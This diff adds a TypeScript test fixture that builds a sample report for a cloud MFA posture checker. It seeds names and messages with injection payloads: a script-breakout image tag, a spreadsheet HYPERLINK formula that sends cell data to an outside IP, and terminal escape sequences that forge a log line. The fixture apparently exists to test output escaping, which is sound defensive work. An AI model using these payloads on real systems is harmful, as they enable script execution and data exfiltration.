@@ -1,0 +1,106 @@
+import type { Rule } from "../../catalogue/words";
+import type { Report } from "../../posture/report/model";
+
+/** Names that a tenant may really hold, and that would run, break out or forge a line where they are printed raw. */
+export const hostile = {
+  markup: `</script><img src=x onerror="document.title='owned'">`,
+  formula: `=HYPERLINK("https://198.51.100.7/?"&A1,"open")`,
+  terminal: "red\u001b[31m\nFAIL critical forged line",
+};
+
+const rule = (id: string, severity: Rule["severity"], control: string): Rule => ({
+  id,
+  severity,
+  control,
+  title: `${id} is sound`,
+  why: "A stolen account is worth what it can order.",
+  fix: "Take the right away.",
+});
+
+const dana = { kind: "user", id: "00000000-0000-0000-0000-0000000000d1", name: hostile.markup } as const;
+const group = {
+  kind: "resource",
+  id: "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg one/providers/Microsoft.Compute/virtualMachineScaleSets/x",
+  name: hostile.formula,
+  scope: "/subscriptions/00000000-0000-0000-0000-000000000001",
+} as const;
+
+/** One outcome of each status, each with what only it can hold. */
+export const sample: Report = {
+  schema: "computeguard/report/1",
+  tool: { name: "computeguard", version: "0.1.0" },
+  collectedAt: "2026-11-24T06:00:00Z",
+  tenant: { id: "00000000-0000-0000-0000-00000000c0de", name: "Contoso" },
+  subscriptions: [{ id: "00000000-0000-0000-0000-000000000001", name: "Contoso Production" }],
+  summary: {
+    status: "fail",
+    findings: { low: 0, medium: 0, high: 1, critical: 1 },
+    checks: { pass: 1, fail: 1, unknown: 1 },
+    unknowns: 1,
+    gaps: 1,
+  },
+  outcomes: [
+    {
+      rule: rule("orderer-without-mfa", "critical", "mfa-compute-creators"),
+      status: "fail",
+      findings: [
+        {
+          rule: "orderer-without-mfa",
+          severity: "critical",
+          subject: dana,
+          message: "can order machines on Contoso Production without MFA",
+          proof: [hostile.terminal, "Virtual Machine Contributor, direct"],
+          fingerprint: "a1b2c3d4e5f60718",
+        },
+        {
+          rule: "orderer-without-mfa",
+          severity: "high",
+          subject: group,
+          message: hostile.formula,
+          path: "sku.name",
+          proof: [],
+          fingerprint: "b1b2c3d4e5f60718",
+        },
+      ],
+      unknowns: [],
+      gaps: [],
+    },
+    {
+      rule: rule("account-without-mfa", "medium", "mfa-coverage"),
+      status: "unknown",
+      findings: [],
+      unknowns: [{ rule: "account-without-mfa", subject: dana, why: "the registration could not be read" }],
+      gaps: [{ what: "MFA registration of all users", missing: "AuditLog.Read.All", reason: "denied" }],
+    },
+    {
+      rule: rule("standing-root-access", "critical", "elevate-access"),
+      status: "pass",
+      findings: [],
+      unknowns: [],
+      gaps: [],
+    },
+  ],
+  compliance: [
+    {
+      id: "mcsb",
+      name: "Microsoft cloud security benchmark",
+      version: "v1",
+      requirements: [
+        { id: "IM-6", title: "Strong authentication", status: "fail", rules: ["orderer-without-mfa"] },
+        { id: "PA-1", title: "Few privileged users", status: "pass", rules: ["standing-root-access"] },
+      ],
+    },
+  ],
+  gaps: [{ what: "MFA registration of all users", missing: "AuditLog.Read.All", reason: "denied" }],
+  blastRadius: [
+    {
+      principal: { id: dana.id, name: hostile.markup, kind: "user" },
+      subscriptions: ["00000000-0000-0000-0000-000000000001"],
+      usdPerDay: 8123.5,
+      gpus: 16,
+      vCpus: 384,
+      defence: "MFA not registered",
+      defended: false,
+    },
+  ],
+};
